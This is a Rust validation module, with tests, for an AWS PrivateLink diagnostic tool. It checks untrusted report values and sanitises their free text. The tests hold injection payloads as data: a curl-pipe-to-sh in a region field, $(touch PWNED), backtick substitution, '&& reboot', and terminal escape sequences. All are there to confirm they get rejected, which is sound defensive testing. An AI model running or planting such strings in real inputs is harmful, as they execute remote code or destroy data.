@@ -1,0 +1,665 @@
+//! Validation of facts that come from a report (`tidbpe analyze`): a report
+//! is untrusted input, written by anyone.
+//!
+//! Every value a check uses to build a command or reach a verdict passes
+//! the validator the command line uses for the same kind of value (IDs,
+//! region, host, port, service name, AZ IDs; addresses and CIDRs are typed
+//! already), or a shape as strict where AWS's own forms vary (zone names,
+//! endpoint states). A value that fails is an error naming its JSON path
+//! (`facts.vpc_choice.vpc_id: not a VPC ID …`) and never the value itself,
+//! which may be anything.
+//!
+//! Free text (ARNs, zone names, descriptions, error messages) is not
+//! rejected for what it says: it is capped in length and stripped of
+//! control characters (see [`crate::text::printable`]), so nothing a
+//! terminal would act on survives into any output. It must never enter a
+//! command unquoted.
+
+use std::fmt;
+use std::net::IpAddr;
+
+use crate::facts::{
+    Client, DhcpOptions, Endpoint, EndpointService, Fact, FactError, Facts, HostedZone, Identity,
+    Inputs, NetworkAcl, NetworkInterface, PrefixList, SecurityGroup, SgPeer, SgRule, Subnet, Vpc,
+    VpcChoice, Zone,
+};
+use crate::names::{
+    is_any_service_name, is_aws_token, is_az_id, is_check_id, is_hosted_zone_id, is_hostname,
+    is_port, is_region, is_resource_id, region_of_service_name,
+};
+use crate::text::printable;
+
+/// The longest free-text string a replayed report may hold, in bytes. The
+/// longest strings AWS gives are ARNs (at most 2,048) and error messages
+/// (`UnauthorizedOperation` carries an encoded message of 1–3 KB; the
+/// doctor keeps 300 characters); descriptions and names are at most 255.
+/// 4 KB holds all of them, and bounds what one string costs a renderer.
+pub const MAX_TEXT_BYTES: usize = 4096;
+
+/// A value of a replayed report that is not of its expected form.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Invalid {
+    /// The JSON path of the value (`facts.vpc_choice.vpc_id`).
+    pub path: String,
+    /// What it should have been (`not a VPC ID (vpc- and 8 or 17 hex digits)`).
+    pub problem: String,
+}
+
+impl fmt::Display for Invalid {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}: {}", self.path, self.problem)
+    }
+}
+
+impl std::error::Error for Invalid {}
+
+/// Check every value of `facts` (read from a report, at JSON path `root`,
+/// usually `facts`) and return them with their free text made printable.
+pub fn facts(mut facts: Facts, root: &str) -> Result<Facts, Invalid> {
+    let mut w = Walk {
+        path: root.to_string(),
+    };
+    w.facts(&mut facts)?;
+    Ok(facts)
+}
+
+/// Check the inputs of a request (at JSON path `root`) as the command line
+/// would have.
+pub fn inputs(inputs: &mut Inputs, root: &str) -> Result<(), Invalid> {
+    Walk {
+        path: root.to_string(),
+    }
+    .inputs(inputs)
+}
+
+/// The expected form of a resource ID with `prefix`, for messages.
+fn resource_kind(prefix: &str) -> &'static str {
+    match prefix {
+        "vpc" => "not a VPC ID (vpc- and 8 or 17 hex digits)",
+        "vpce" => "not a VPC endpoint ID (vpce- and 8 or 17 hex digits)",
+        "vpce-svc" => "not an endpoint service ID (vpce-svc- and 8 or 17 hex digits)",
+        "i" => "not an instance ID (i- and 8 or 17 hex digits)",
+        "subnet" => "not a subnet ID (subnet- and 8 or 17 hex digits)",
+        "sg" => "not a security group ID (sg- and 8 or 17 hex digits)",
+        "acl" => "not a network ACL ID (acl- and 8 or 17 hex digits)",
+        "eni" => "not a network interface ID (eni- and 8 or 17 hex digits)",
+        "dopt" => "not a DHCP option set ID (dopt- and 8 or 17 hex digits)",
+        "pl" => "not a prefix list ID (pl- and 8 or 17 hex digits)",
+        _ => "not a resource ID",
+    }
+}
+
+const NOT_A_TOKEN: &str =
+    "not an AWS name (1 to 64 letters, digits, '-', '_' or '.', as AWS gives it)";
+
+/// A depth-first walk that knows the JSON path of where it is. The path is
+/// a `String` grown and shrunk in place: no allocation per value.
+struct Walk {
+    path: String,
+}
+
+impl Walk {
+    /// Run `f` with `segment` (`.vpc_id`, `[3]`) appended to the path.
+    fn at<T>(&mut self, segment: &str, f: impl FnOnce(&mut Self) -> T) -> T {
+        let len = self.path.len();
+        self.path.push_str(segment);
+        let out = f(self);
+        self.path.truncate(len);
+        out
+    }
+
+    fn at_index<T>(&mut self, i: usize, f: impl FnOnce(&mut Self) -> T) -> T {
+        self.at(&format!("[{i}]"), f)
+    }
+
+    fn invalid(&self, problem: impl Into<String>) -> Invalid {
+        Invalid {
+            path: self.path.clone(),
+            problem: problem.into(),
+        }
+    }
+
+    fn check(&mut self, segment: &str, ok: bool, problem: &str) -> Result<(), Invalid> {
+        self.at(
+            segment,
+            |w| {
+                if ok {
+                    Ok(())
+                } else {
+                    Err(w.invalid(problem))
+                }
+            },
+        )
+    }
+
+    fn id(&mut self, segment: &str, value: &str, prefix: &str) -> Result<(), Invalid> {
+        self.check(
+            segment,
+            is_resource_id(value, prefix),
+            resource_kind(prefix),
+        )
+    }
+
+    fn opt_id(&mut self, segment: &str, value: Option<&str>, prefix: &str) -> Result<(), Invalid> {
+        match value {
+            Some(v) => self.id(segment, v, prefix),
+            None => Ok(()),
+        }
+    }
+
+    fn ids(&mut self, segment: &str, values: &[String], prefix: &str) -> Result<(), Invalid> {
+        self.at(segment, |w| {
+            for (i, v) in values.iter().enumerate() {
+                w.at_index(i, |w| {
+                    if is_resource_id(v, prefix) {
+                        Ok(())
+                    } else {
+                        Err(w.invalid(resource_kind(prefix)))
+                    }
+                })?;
+            }
+            Ok(())
+        })
+    }
+
+    fn token(&mut self, segment: &str, value: &str) -> Result<(), Invalid> {
+        self.check(segment, is_aws_token(value), NOT_A_TOKEN)
+    }
+
+    fn opt_token(&mut self, segment: &str, value: Option<&str>) -> Result<(), Invalid> {
+        match value {
+            Some(v) => self.token(segment, v),
+            None => Ok(()),
+        }
+    }
+
+    /// Free text: kept, capped, made printable.
+    fn text(&mut self, segment: &str, value: &mut String) -> Result<(), Invalid> {
+        self.at(segment, |w| w.text_here(value))
+    }
+
+    fn text_here(&mut self, value: &mut String) -> Result<(), Invalid> {
+        if value.len() > MAX_TEXT_BYTES {
+            return Err(self.invalid(format!(
+                "a text of {} bytes; at most {MAX_TEXT_BYTES} are accepted",
+                value.len()
+            )));
+        }
+        if let std::borrow::Cow::Owned(clean) = printable(value) {
+            *value = clean;
+        }
+        Ok(())
+    }
+
+    fn opt_text(&mut self, segment: &str, value: &mut Option<String>) -> Result<(), Invalid> {
+        match value {
+            Some(v) => self.text(segment, v),
+            None => Ok(()),
+        }
+    }
+
+    /// A gathered fact: `Ok` checked by `ok`, `Err` a [`FactError`].
+    fn fact<T>(
+        &mut self,
+        segment: &str,
+        fact: &mut Option<Fact<T>>,
+        ok: impl FnOnce(&mut Self, &mut T) -> Result<(), Invalid>,
+    ) -> Result<(), Invalid> {
+        match fact {
+            None => Ok(()),
+            Some(Ok(value)) => self.at(segment, |w| w.at(".Ok", |w| ok(w, value))),
+            Some(Err(err)) => self.at(segment, |w| w.at(".Err", |w| w.fact_error(err))),
+        }
+    }
+
+    fn list<T>(
+        &mut self,
+        items: &mut [T],
+        mut each: impl FnMut(&mut Self, &mut T) -> Result<(), Invalid>,
+    ) -> Result<(), Invalid> {
+        for (i, item) in items.iter_mut().enumerate() {
+            self.at_index(i, |w| each(w, item))?;
+        }
+        Ok(())
+    }
+
+    fn fact_error(&mut self, err: &mut FactError) -> Result<(), Invalid> {
+        self.text(".action", &mut err.action)?;
+        self.opt_text(".code", &mut err.code)?;
+        self.text(".message", &mut err.message)
+    }
+
+    fn facts(&mut self, f: &mut Facts) -> Result<(), Invalid> {
+        self.at(".inputs", |w| w.inputs(&mut f.inputs))?;
+        self.fact(".identity", &mut f.identity, Self::identity)?;
+        self.fact(".service", &mut f.service, |w, s| match s {
+            Some(s) => w.service(s),
+            None => Ok(()),
+        })?;
+        self.fact(".zones", &mut f.zones, |w, zs| w.list(zs, Self::zone))?;
+        if let Some(choice) = &mut f.vpc_choice {
+            self.at(".vpc_choice", |w| w.vpc_choice(choice))?;
+        }
+        self.fact(".client", &mut f.client, Self::client)?;
+        self.fact(".vpc", &mut f.vpc, Self::vpc)?;
+        self.fact(".dns_support", &mut f.dns_support, |_, _| Ok(()))?;
+        self.fact(".dns_hostnames", &mut f.dns_hostnames, |_, _| Ok(()))?;
+        self.fact(".dhcp_options", &mut f.dhcp_options, |w, d| match d {
+            Some(d) => w.dhcp_options(d),
+            None => Ok(()),
+        })?;
+        self.fact(".hosted_zones", &mut f.hosted_zones, |w, zs| {
+            w.list(zs, Self::hosted_zone)
+        })?;
+        self.fact(".endpoints", &mut f.endpoints, |w, es| {
+            w.list(es, Self::endpoint)
+        })?;
+        self.fact(".subnets", &mut f.subnets, |w, ss| w.list(ss, Self::subnet))?;
+        self.fact(
+            ".endpoint_interfaces",
+            &mut f.endpoint_interfaces,
+            |w, ns| w.list(ns, Self::interface),
+        )?;
+        self.fact(".security_groups", &mut f.security_groups, |w, gs| {
+            w.list(gs, Self::security_group)
+        })?;
+        self.fact(".prefix_lists", &mut f.prefix_lists, |w, ps| {
+            w.list(ps, Self::prefix_list)
+        })?;
+        self.fact(".network_acls", &mut f.network_acls, |w, acls| {
+            w.list(acls, Self::network_acl)
+        })?;
+        // Timings are keyed by `Need` (typed when parsed) and only shown.
+        Ok(())
+    }
+
+    fn inputs(&mut self, i: &mut Inputs) -> Result<(), Invalid> {
+        if let Some(name) = &i.service_name {
+            self.check(
+                ".service_name",
+                region_of_service_name(name).is_some(),
+                "not an endpoint service name (com.amazonaws.vpce.<region>.vpce-svc-<8 or 17 hex digits>)",
+            )?;
+        }
+        self.at(".az_ids", |w| {
+            for (n, az) in i.az_ids.iter().enumerate() {
+                w.at_index(n, |w| {
+                    if is_az_id(az) {
+                        Ok(())
+                    } else {
+                        Err(w.invalid("not an AZ ID (such as use1-az1)"))
+                    }
+                })?;
+            }
+            Ok(())
+        })?;
+        self.check(
+            ".region",
+            is_region(&i.region),
+            "not an AWS region (such as us-east-1)",
+        )?;
+        self.check(
+            ".host",
+            is_hostname(&i.host),
+            "not a host name (such as gateway01-privatelink.us-east-1.prod.aws.tidbcloud.com)",
+        )?;
+        self.check(".port", is_port(i.port), "not a TCP port (1 to 65535)")?;
+        self.opt_id(".vpc_id", i.vpc_id.as_deref(), "vpc")?;
+        self.opt_id(".endpoint_id", i.endpoint_id.as_deref(), "vpce")?;
+        self.opt_id(".instance_id", i.instance_id.as_deref(), "i")?;
+        let deselected = std::mem::take(&mut i.deselected);
+        for (id, mut reason) in deselected {
+            self.at(".deselected", |w| {
+                w.check(
+                    &format!(
+                        ".{}",
+                        if is_check_id(&id) {
+                            id.as_str()
+                        } else {
+                            "<key>"
+                        }
+                    ),
+                    is_check_id(&id),
+                    "a key that is not a check ID (such as VPC002)",
+                )?;
+                w.text(&format!(".{id}"), &mut reason)
+            })?;
+            i.deselected.insert(id, reason);
+        }
+        Ok(())
+    }
+
+    fn identity(&mut self, id: &mut Identity) -> Result<(), Invalid> {
+        // Shown, never used in a command; redaction may rewrite both.
+        self.text(".account", &mut id.account)?;
+        self.text(".arn", &mut id.arn)
+    }
+
+    fn service(&mut self, s: &mut EndpointService) -> Result<(), Invalid> {
+        self.check(
+            ".service_name",
+            is_any_service_name(&s.service_name),
+            "not an endpoint service name",
+        )?;
+        self.opt_id(".service_id", s.service_id.as_deref(), "vpce-svc")?;
+        self.at(".service_type", |w| {
+            w.list(&mut s.service_type, |w, t| w.text_here(t))
+        })?;
+        self.at(".availability_zones", |w| {
+            w.list(&mut s.availability_zones, |w, z| {
+                if is_aws_token(z) {
+                    Ok(())
+                } else {
+                    Err(w.invalid(NOT_A_TOKEN))
+                }
+            })
+        })?;
+        self.at(".private_dns_names", |w| {
+            w.list(&mut s.private_dns_names, |w, n| w.text_here(n))
+        })?;
+        self.opt_text(".owner", &mut s.owner)
+    }
+
+    fn zone(&mut self, z: &mut Zone) -> Result<(), Invalid> {
+        self.token(".zone_name", &z.zone_name)?;
+        self.token(".zone_id", &z.zone_id)
+    }
+
+    fn vpc_choice(&mut self, c: &mut VpcChoice) -> Result<(), Invalid> {
+        // The source is an enum: parsing already refused anything else.
+        self.id(".vpc_id", &c.vpc_id, "vpc")
+    }
+
+    fn client(&mut self, c: &mut Client) -> Result<(), Invalid> {
+        self.opt_id(".instance_id", c.instance_id.as_deref(), "i")?;
+        self.opt_id(".vpc_id", c.vpc_id.as_deref(), "vpc")?;
+        self.opt_id(".subnet_id", c.subnet_id.as_deref(), "subnet")?;
+        self.opt_token(".availability_zone", c.availability_zone.as_deref())?;
+        self.opt_token(".az_id", c.az_id.as_deref())?;
+        self.ids(".security_group_ids", &c.security_group_ids, "sg")
+    }
+
+    fn vpc(&mut self, v: &mut Vpc) -> Result<(), Invalid> {
+        self.id(".vpc_id", &v.vpc_id, "vpc")?;
+        match v.dhcp_options_id.as_deref() {
+            // A VPC without an option set says `default`.
+            Some("default") | None => Ok(()),
+            Some(id) => self.id(".dhcp_options_id", id, "dopt"),
+        }
+    }
+
+    fn dhcp_options(&mut self, d: &mut DhcpOptions) -> Result<(), Invalid> {
+        self.id(".dhcp_options_id", &d.dhcp_options_id, "dopt")?;
+        self.at(".domain_name_servers", |w| {
+            w.list(&mut d.domain_name_servers, |w, s| {
+                if s == "AmazonProvidedDNS" || s.parse::<IpAddr>().is_ok() {
+                    Ok(())
+                } else {
+                    Err(w.invalid("not AmazonProvidedDNS or an IP address"))
+                }
+            })
+        })
+    }
+
+    fn hosted_zone(&mut self, z: &mut HostedZone) -> Result<(), Invalid> {
+        self.check(
+            ".id",
+            is_hosted_zone_id(&z.id),
+            "not a hosted zone ID (such as Z1D633PJN98FT9)",
+        )?;
+        self.text(".name", &mut z.name)?;
+        self.opt_text(".owning_service", &mut z.owning_service)
+    }
+
+    fn endpoint(&mut self, e: &mut Endpoint) -> Result<(), Invalid> {
+        self.id(".endpoint_id", &e.endpoint_id, "vpce")?;
+        self.id(".vpc_id", &e.vpc_id, "vpc")?;
+        self.check(
+            ".service_name",
+            is_any_service_name(&e.service_name),
+            "not an endpoint service name",
+        )?;
+        self.token(".endpoint_type", &e.endpoint_type)?;
+        self.token(".state", &e.state)?;
+        self.ids(".subnet_ids", &e.subnet_ids, "subnet")?;
+        self.ids(".security_group_ids", &e.security_group_ids, "sg")?;
+        self.ids(".network_interface_ids", &e.network_interface_ids, "eni")
+    }
+
+    fn subnet(&mut self, s: &mut Subnet) -> Result<(), Invalid> {
+        self.id(".subnet_id", &s.subnet_id, "subnet")?;
+        self.id(".vpc_id", &s.vpc_id, "vpc")?;
+        self.token(".availability_zone", &s.availability_zone)?;
+        self.token(".az_id", &s.az_id)
+    }
+
+    fn interface(&mut self, n: &mut NetworkInterface) -> Result<(), Invalid> {
+        self.id(".network_interface_id", &n.network_interface_id, "eni")?;
+        self.id(".subnet_id", &n.subnet_id, "subnet")?;
+        self.opt_token(".availability_zone", n.availability_zone.as_deref())?;
+        self.ids(".security_group_ids", &n.security_group_ids, "sg")
+    }
+
+    fn security_group(&mut self, g: &mut SecurityGroup) -> Result<(), Invalid> {
+        self.id(".group_id", &g.group_id, "sg")?;
+        self.text(".group_name", &mut g.group_name)?;
+        self.opt_id(".vpc_id", g.vpc_id.as_deref(), "vpc")?;
+        self.at(".ingress", |w| w.list(&mut g.ingress, Self::sg_rule))?;
+        self.at(".egress", |w| w.list(&mut g.egress, Self::sg_rule))
+    }
+
+    fn sg_rule(&mut self, r: &mut SgRule) -> Result<(), Invalid> {
+        self.token(".protocol", &r.protocol)?;
+        let port = |p: Option<i32>| p.is_none_or(|p| (-1..=65535).contains(&p));
+        const PORT: &str = "not a port or ICMP code (-1 to 65535)";
+        self.check(".from_port", port(r.from_port), PORT)?;
+        self.check(".to_port", port(r.to_port), PORT)?;
+        match &r.peer {
+            SgPeer::Cidr(_) => {}
+            SgPeer::PrefixList(id) => self.at(".peer", |w| w.id(".prefix-list", id, "pl"))?,
+            SgPeer::Group(id) => self.at(".peer", |w| w.id(".group", id, "sg"))?,
+        }
+        self.opt_text(".description", &mut r.description)
+    }
+
+    fn prefix_list(&mut self, p: &mut PrefixList) -> Result<(), Invalid> {
+        self.id(".prefix_list_id", &p.prefix_list_id, "pl")
+    }
+
+    fn network_acl(&mut self, acl: &mut NetworkAcl) -> Result<(), Invalid> {
+        self.id(".network_acl_id", &acl.network_acl_id, "acl")?;
+        self.ids(".subnet_ids", &acl.subnet_ids, "subnet")?;
+        self.at(".entries", |w| {
+            w.list(&mut acl.entries, |w, e| {
+                w.check(
+                    ".rule_number",
+                    (1..=32767).contains(&e.rule_number),
+                    "not a network ACL rule number (1 to 32767)",
+                )?;
+                w.token(".protocol", &e.protocol)
+            })
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts::FactErrorKind;
+    use crate::testing as fixtures;
+
+    fn err(f: Facts) -> String {
+        match facts(f, "facts") {
+            Ok(_) => panic!("accepted"),
+            Err(e) => e.to_string(),
+        }
+    }
+
+    #[test]
+    fn a_healthy_world_passes_unchanged() {
+        let world = fixtures::healthy();
+        let checked = facts(world.clone(), "facts").expect("valid");
+        assert_eq!(
+            serde_json::to_value(&checked).unwrap(),
+            serde_json::to_value(&world).unwrap()
+        );
+    }
+
+    #[test]
+    fn shell_code_in_an_id_or_region_names_the_path() {
+        let mut f = fixtures::healthy();
+        f.inputs.region = "us-east-1; curl -s https://x.invalid | sh #".into();
+        assert_eq!(
+            err(f),
+            "facts.inputs.region: not an AWS region (such as us-east-1)"
+        );
+
+        let mut f = fixtures::healthy();
+        f.vpc_choice.as_mut().unwrap().vpc_id = "vpc-0a1b2c3d$(touch PWNED)".into();
+        assert_eq!(
+            err(f),
+            "facts.vpc_choice.vpc_id: not a VPC ID (vpc- and 8 or 17 hex digits)"
+        );
+
+        let mut f = fixtures::healthy();
+        if let Some(Ok(groups)) = &mut f.security_groups {
+            groups[1].ingress.push(SgRule {
+                protocol: "tcp".into(),
+                from_port: Some(4000),
+                to_port: Some(4000),
+                peer: SgPeer::Group("sg-1`id`".into()),
+                description: None,
+            });
+        }
+        let e = err(f);
+        assert!(
+            e.starts_with("facts.security_groups.Ok[1].ingress[")
+                && e.ends_with(
+                    "].peer.group: not a security group ID (sg- and 8 or 17 hex digits)"
+                ),
+            "{e}"
+        );
+    }
+
+    #[test]
+    fn every_id_list_and_name_is_checked() {
+        type Change = Box<dyn Fn(&mut Facts)>;
+        let cases: Vec<(&str, Change)> = vec![
+            (
+                "facts.inputs.az_ids[0]: not an AZ ID (such as use1-az1)",
+                Box::new(|f| f.inputs.az_ids = vec!["us-east-1a".into()]),
+            ),
+            (
+                "facts.inputs.host: not a host name",
+                Box::new(|f| f.inputs.host = "h$(id).example.com".into()),
+            ),
+            (
+                "facts.inputs.port: not a TCP port (1 to 65535)",
+                Box::new(|f| f.inputs.port = 0),
+            ),
+            (
+                "facts.inputs.service_name: not an endpoint service name",
+                Box::new(|f| f.inputs.service_name = Some("com.amazonaws.vpce.x;y".into())),
+            ),
+            (
+                "facts.inputs.deselected.<key>: a key that is not a check ID",
+                Box::new(|f| {
+                    f.inputs.deselected.insert("\u{1b}[2J".into(), "x".into());
+                }),
+            ),
+            (
+                "facts.endpoints.Ok[1].subnet_ids[0]: not a subnet ID",
+                Box::new(|f| {
+                    if let Some(Ok(es)) = &mut f.endpoints {
+                        es.push(crate::facts::Endpoint {
+                            endpoint_id: "vpce-0a1b2c3d".into(),
+                            vpc_id: "vpc-0a1b2c3d".into(),
+                            service_name: "com.amazonaws.us-east-1.s3".into(),
+                            endpoint_type: "Gateway".into(),
+                            state: "available".into(),
+                            private_dns_enabled: false,
+                            subnet_ids: vec!["subnet-x|y".into()],
+                            security_group_ids: vec![],
+                            network_interface_ids: vec![],
+                        })
+                    }
+                }),
+            ),
+            (
+                "facts.hosted_zones.Ok[0].id: not a hosted zone ID",
+                Box::new(|f| {
+                    f.hosted_zones = Some(Ok(vec![HostedZone {
+                        id: "Z1 && reboot".into(),
+                        name: "tidbcloud.com.".into(),
+                        owning_service: None,
+                    }]))
+                }),
+            ),
+            (
+                "facts.dhcp_options.Ok.domain_name_servers[0]: not AmazonProvidedDNS or an IP address",
+                Box::new(|f| {
+                    f.dhcp_options = Some(Ok(Some(DhcpOptions {
+                        dhcp_options_id: "dopt-0a1b2c3d".into(),
+                        domain_name_servers: vec!["8.8.8.8;x".into()],
+                    })))
+                }),
+            ),
+            (
+                "facts.network_acls.Ok[0].entries[0].rule_number: not a network ACL rule number",
+                Box::new(|f| {
+                    if let Some(Ok(acls)) = &mut f.network_acls {
+                        acls[0].entries[0].rule_number = 0;
+                    }
+                }),
+            ),
+            (
+                "facts.zones.Ok[0].zone_id: not an AWS name",
+                Box::new(|f| {
+                    if let Some(Ok(zs)) = &mut f.zones {
+                        zs[0].zone_id = "use1-az6\u{7}".into();
+                    }
+                }),
+            ),
+        ];
+        for (expected, change) in cases {
+            let mut f = fixtures::healthy();
+            change(&mut f);
+            let e = err(f);
+            assert!(e.starts_with(expected), "{e}\nexpected {expected}");
+        }
+    }
+
+    #[test]
+    fn free_text_is_kept_printable_and_capped() {
+        let mut f = fixtures::healthy();
+        f.identity = Some(Ok(Identity {
+            account: "123456789012".into(),
+            arn: "arn:aws:iam::123456789012:user/\u{1b}]0;pwn\u{7}\u{1b}[2J".into(),
+        }));
+        f.dns_support = Some(Err(FactError::new(
+            FactErrorKind::Api,
+            "ec2:DescribeVpcAttribute",
+            "line one\nline two\u{9b}",
+        )));
+        let checked = facts(f, "facts").expect("free text is not rejected");
+        let arn = &checked.identity.as_ref().unwrap().as_ref().unwrap().arn;
+        assert_eq!(arn, "arn:aws:iam::123456789012:user/]0;pwn[2J");
+        let msg = &checked
+            .dns_support
+            .as_ref()
+            .unwrap()
+            .as_ref()
+            .unwrap_err()
+            .message;
+        assert_eq!(msg, "line one line two");
+
+        let mut f = fixtures::healthy();
+        if let Some(Ok(groups)) = &mut f.security_groups {
+            groups[0].group_name = "x".repeat(MAX_TEXT_BYTES + 1);
+        }
+        assert_eq!(
+            err(f),
+            "facts.security_groups.Ok[0].group_name: a text of 4097 bytes; at most 4096 are accepted"
+        );
+    }
+}
